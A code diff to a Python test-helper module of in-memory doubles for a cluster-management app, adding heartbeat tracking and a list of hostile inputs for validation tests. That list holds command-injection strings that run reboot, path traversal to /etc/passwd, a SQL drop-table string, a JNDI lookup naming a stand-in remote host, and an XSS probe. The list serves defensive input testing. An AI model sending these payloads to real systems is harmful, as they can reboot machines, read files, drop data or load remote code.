@@ -1,6 +1,7 @@
 """Twins of what the app's domain talks to: in memory, and holding callers to what they pass."""
 
 import json
+from collections import Counter
 from collections.abc import Mapping
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -8,7 +9,7 @@ from typing import Any
 
 from labswarm.cluster import Cluster
 from labswarm.commands import Invocation
-from labswarm.errors import BadInput
+from labswarm.errors import BadInput, LabswarmError
 from labswarm.groups import Member, Size
 from labswarm.lifecycle import Result
 
@@ -17,6 +18,35 @@ INSTANCE = "i-0123456789abcdef0"
 MANAGER = "i-0fedcba9876543210"
 OWNER = "arn:aws:states:eu-west-1:123456789012:execution:labswarm-node-launch:one"
 OTHER = "arn:aws:states:eu-west-1:123456789012:execution:labswarm-node-launch:two"
+
+# What someone might write where an id or a name is expected.
+HOSTILE = [
+    "",
+    "$(reboot)",
+    "`reboot`",
+    "; reboot",
+    "| reboot",
+    "&& reboot",
+    "-rf",
+    "*",
+    "../../etc/passwd",
+    "..%2f..%2fetc",
+    "lab/../../x",
+    '"}],"x":[{"',
+    "'; DROP TABLE ledger; --",
+    "{{ssm:/labswarm/clusters/lab}}",
+    "${jndi:ldap://x.example/a}",
+    "<script>alert(1)</script>",
+    "%s%n%x",
+    "a\nb",
+    "a\x00b",
+    "\u202ei-0123456789abcdef0",
+    "i-0123456789abcdef0\n",
+    "i-0123456789abcdef0 i-0123456789abcdef1",
+    "i-0123456789ABCDEF0",
+    "ｉ-０１２３４５６７８",
+    "x" * 5000,
+]
 
 DESCRIPTION: dict[str, Any] = {
     "name": "lab",
@@ -66,19 +96,34 @@ class TwinClusters:
 
 
 class TwinHooks:
-    """The hooks `launch` and `terminate` of the group, and who waits in them, by token."""
+    """The hooks `launch` and `terminate` of the group, and who waits in them, by token.
 
-    def __init__(self, *tokens: str) -> None:
+    `refused` are tokens whose heartbeats meet an error; `beats` counts those of each.
+    """
+
+    def __init__(self, *tokens: str, timeout_s: int = 600) -> None:
         self.waiting = set(tokens)
         self.results: dict[str, Result] = {}
+        self.timeout = timeout_s
+        self.beats: Counter[str] = Counter()
+        self.refused: dict[str, LabswarmError] = {}
 
-    def heartbeat_s(self, asg: str, hook: str) -> int:
+    def timeout_s(self, asg: str, hook: str) -> int:
         if (asg, hook) not in {("labswarm-lab-workers", h) for h in ("launch", "terminate")}:
             raise BadInput("detail.LifecycleHookName", f"{asg} has no hook {hook!r}")
-        return 600
+        return self.timeout
+
+    def heartbeat(self, asg: str, hook: str, token: str) -> bool:
+        self.timeout_s(asg, hook)
+        if token in self.refused:
+            raise self.refused[token]
+        if token not in self.waiting:
+            return False
+        self.beats[token] += 1
+        return True
 
     def complete(self, asg: str, hook: str, token: str, result: Result) -> None:
-        self.heartbeat_s(asg, hook)
+        self.timeout_s(asg, hook)
         if token in self.waiting:
             self.waiting.remove(token)
             self.results[token] = result
